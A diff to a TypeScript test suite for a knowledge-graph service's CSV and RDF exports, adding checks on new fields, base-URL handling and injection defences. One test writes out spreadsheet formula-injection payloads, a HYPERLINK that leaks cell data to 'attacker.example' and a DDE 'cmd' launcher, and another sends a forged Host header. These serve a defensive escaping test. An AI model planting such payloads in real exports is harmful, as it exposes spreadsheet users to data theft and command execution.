@@ -1,7 +1,9 @@
+import { request as httpRequest } from "node:http";
 import { parse } from "csv-parse/sync";
 import jsonld from "jsonld";
 import { Parser, type Quad } from "n3";
 import { describe, expect, it } from "vitest";
+import { ConfigError, loadConfig } from "../src/config.js";
 import { CSV_COLUMNS } from "../src/export/facts-csv.js";
 import { useTestServer } from "./support/http.js";
 
@@ -14,6 +16,8 @@ const SCHEMA = "http://schema.org/";
 const OA = "http://www.w3.org/ns/oa#";
 const PROV = "http://www.w3.org/ns/prov#";
 const RDF_TYPE = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type";
+/** The test server's PUBLIC_BASE_URL: every IRI of the RDF exports is under it. */
+const BASE = "https://imss-graph.example.org/kg";
 
 interface ApiFact {
   key: string;
@@ -26,10 +30,13 @@ interface ApiFact {
   variable: { key: string; name: string };
   about: { key: string; name: string };
   period: { key: string };
+  comparedTo: { key: string } | null;
+  conflicts: { fact: { key: string }; note: string }[];
   citations: {
     quote: string;
     start: number;
     end: number;
+    garbled: string | null;
     document: { key: string; date: string };
   }[];
 }
@@ -42,7 +49,7 @@ const refuseEveryUrl = async (url: string): Promise<never> => {
 };
 
 describe("exports", () => {
-  const running = useTestServer();
+  const running = useTestServer({ publicBaseUrl: BASE });
 
   async function apiFacts(filter: Record<string, unknown> = {}): Promise<ApiFact[]> {
     const facts: ApiFact[] = [];
@@ -60,8 +67,9 @@ describe("exports", () => {
         `query ($filter: FactFilter, $after: String) {
           facts(filter: $filter, first: 100, after: $after) {
             edges { node { key value unit statistic qualifiers garbled deprecated
-              variable { key name } about { key name } period { key }
-              citations { quote start end document { key date } } } }
+              variable { key name } about { key name } period { key } comparedTo { key }
+              conflicts { fact { key } note }
+              citations { quote start end garbled document { key date } } } }
             pageInfo { hasNextPage endCursor }
           }
         }`,
@@ -118,9 +126,17 @@ describe("exports", () => {
         expect(row!.period).toBe(fact.period.key);
         expect(row!.garbled).toBe(String(fact.garbled));
         expect(row!.deprecated).toBe("false");
+        expect(row!.compared_to).toBe(fact.comparedTo?.key ?? "");
+        expect(row!.conflicts_with).toBe(fact.conflicts.map((c) => c.fact.key).join(";"));
+        expect(row!.citation_garbled).toBe(String(c.garbled !== null));
+        expect(row!.citation_garbled_note).toBe(c.garbled ?? "");
       }
     }
     expect(rows).toHaveLength(citations);
+    // The seeds have each of them, so that the comparisons above compare something.
+    expect(rows.some((r) => r.compared_to !== "")).toBe(true);
+    expect(rows.some((r) => r.conflicts_with !== "")).toBe(true);
+    expect(rows.some((r) => r.citation_garbled === "true")).toBe(true);
   });
 
   it("the JSON-LD expands with no network, and every TextPositionSelector gives its exact", async () => {
@@ -239,7 +255,7 @@ describe("exports", () => {
         .sort();
       expect(observations, query).toEqual(expected);
     }
-  });
+  }, 60_000); // 8 filters, each through the API and two exports: slow on a loaded machine
 
   it("bad filter values get a 400 naming the parameter", async () => {
     const cases: [string, string][] = [
@@ -257,10 +273,136 @@ describe("exports", () => {
       for (const [query, parameter] of cases) {
         const response = await fetch(`${running.server.url}${path}?${query}`);
         expect(response.status, `${path}?${query}`).toBe(400);
-        const body = (await response.json()) as { error: string; parameter: string };
+        const body = (await response.json()) as { error: string; parameter: string; code: string };
         expect(body.parameter).toBe(parameter);
         expect(body.error).toContain(`"${parameter}"`);
+        // A key that names nothing is NOT_FOUND, as the API says; anything else is malformed.
+        expect(body.code, `${path}?${query}`).toBe(
+          /no-such/.test(query) ? "NOT_FOUND" : "BAD_USER_INPUT",
+        );
       }
+    }
+  });
+
+  it("the RDF exports carry each fact's conflicts and comparedTo, and each citation's garbled flag", async () => {
+    const quads: Quad[] = new Parser({ format: "text/turtle" }).parse(
+      (await download("/export/graph.ttl")).text,
+    );
+    const IMSS = `${BASE}/vocab#`;
+    const objects = (subject: string, predicate: string) =>
+      quads
+        .filter((q) => q.subject.value === subject && q.predicate.value === predicate)
+        .map((q) => q.object.value)
+        .sort();
+    const factIri = (key: string) => `${BASE}/facts/${encodeURIComponent(key)}`;
+    const api = await apiFacts();
+    for (const fact of api) {
+      const iri = factIri(fact.key);
+      expect(objects(iri, `${IMSS}conflictsWith`), fact.key).toEqual(
+        fact.conflicts.map((c) => factIri(c.fact.key)).sort(),
+      );
+      expect(objects(iri, `${IMSS}comparedTo`), fact.key).toEqual(
+        fact.comparedTo ? [`${BASE}/entity/${fact.comparedTo.key}`] : [],
+      );
+      // Each conflict's note, in a node of its own.
+      const notes = objects(iri, `${IMSS}conflict`).flatMap((node) =>
+        objects(node, "http://www.w3.org/2000/01/rdf-schema#comment"),
+      );
+      expect(notes, fact.key).toEqual(fact.conflicts.map((c) => c.note).sort());
+    }
+    const annotations = quads.filter(
+      (q) => q.predicate.value === `${OA}hasBody` && q.subject.termType === "NamedNode",
+    );
+    const garbledNotes = annotations.flatMap((a) => objects(a.subject.value, `${IMSS}garbledNote`));
+    const apiNotes = api.flatMap((f) => f.citations.flatMap((c) => (c.garbled ? [c.garbled] : [])));
+    expect(garbledNotes.sort()).toEqual(apiNotes.sort());
+    expect(apiNotes.length).toBeGreaterThan(0);
+    for (const a of annotations) expect(objects(a.subject.value, `${IMSS}garbled`)).toHaveLength(1);
+  });
+
+  it("names everything under PUBLIC_BASE_URL: downloads through two Host headers, or a forged one, are identical", async () => {
+    const port = new URL(running.server.url).port;
+    /** A GET with the Host header given (fetch would send its own). */
+    const withHost = (path: string, host: string) =>
+      new Promise<string>((resolve, reject) => {
+        const req = httpRequest(
+          { host: "127.0.0.1", port, path, headers: { host } },
+          (response) => {
+            let text = "";
+            response.setEncoding("utf8");
+            response.on("data", (chunk: string) => (text += chunk));
+            response.on("end", () => resolve(text));
+          },
+        );
+        req.on("error", reject);
+        req.end();
+      });
+    /** The triples of a Turtle text, blank nodes unnamed (n3 numbers them per process). */
+    const triples = (ttl: string) =>
+      new Parser({ format: "text/turtle" })
+        .parse(ttl)
+        .map((q) =>
+          [q.subject, q.predicate, q.object]
+            .map((t) => (t.termType === "BlankNode" ? "_" : `${t.termType}:${t.value}`))
+            .join(" "),
+        )
+        .sort();
+    for (const path of ["/export/graph.ttl", "/export/graph.jsonld?variable=facility-count"]) {
+      const [local, loopback, forged] = await Promise.all([
+        withHost(path, `localhost:${port}`),
+        withHost(path, `127.0.0.1:${port}`),
+        withHost(path, "attacker.example"),
+      ]);
+      expect(local.length).toBeGreaterThan(1_000);
+      expect(local).not.toMatch(/localhost|127\.0\.0\.1|attacker/);
+      expect(local).toContain(`${BASE}/entity/imss`);
+      if (path.includes(".ttl")) {
+        expect(triples(loopback)).toEqual(triples(local));
+        expect(triples(forged)).toEqual(triples(local));
+      } else {
+        expect(loopback).toBe(local);
+        expect(forged).toBe(local);
+      }
+    }
+  });
+
+  it("PUBLIC_BASE_URL is checked: an http(s) URL, default http://localhost:PORT", () => {
+    expect(loadConfig({}).http.publicBaseUrl).toBe("http://localhost:4000");
+    expect(loadConfig({ PORT: "8080" }).http.publicBaseUrl).toBe("http://localhost:8080");
+    expect(loadConfig({ PUBLIC_BASE_URL: "https://kg.example.org/imss/" }).http.publicBaseUrl).toBe(
+      "https://kg.example.org/imss",
+    );
+    for (const bad of ["kg.example.org", "ftp://kg.example.org", "https://kg.example.org/?a=1"]) {
+      expect(() => loadConfig({ PUBLIC_BASE_URL: bad })).toThrow(ConfigError);
+      expect(() => loadConfig({ PUBLIC_BASE_URL: bad })).toThrow(/PUBLIC_BASE_URL/);
+    }
+  });
+
+  it("neutralises text cells a spreadsheet would run as formulas, and leaves numbers alone", async () => {
+    const { driver } = running;
+    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
+    await driver.executeQuery(
+      `CREATE (e:Entity:Place {key: 'zz-csv-injection', kind: 'Place', name: $formula})
+       CREATE (f:Fact {key: 'zz-csv-injection-fact', value: -3.5, unit: 'count',
+               statistic: 'total', qualifier: 'exact', garbled: false, deprecated: false,
+               variable: 'zz-csv-injection'})-[:ABOUT]->(e)
+       CREATE (f)-[:MEASURES]->(:Variable {key: 'zz-csv-injection-variable',
+               name: $command})`,
+      { formula, command: "+cmd|' /C calc'!A0" },
+    );
+    try {
+      const { text } = await download("/export/facts.csv?about=zz-csv-injection");
+      // Quoted and prefixed with a single quote, as OWASP recommends.
+      expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
+      const [row] = parse(text, { columns: true, record_delimiter: "\r\n" }) as CsvRow[];
+      expect(row!.about_name).toBe(`'${formula}`);
+      expect(row!.value).toBe("-3.5");
+      expect(row!.variable_name).toBe("'+cmd|' /C calc'!A0");
+      for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    } finally {
+      await driver.executeQuery(
+        "MATCH (n) WHERE n.key STARTS WITH 'zz-csv-injection' DETACH DELETE n",
+      );
     }
   });
 
@@ -302,6 +444,6 @@ describe("exports", () => {
           "MATCH (f:Fact) WHERE f.key STARTS WITH 'zz-export-test-' DETACH DELETE f",
         );
       }
-    });
+    }, 90_000); // 60,000 facts written, then read
   });
 });
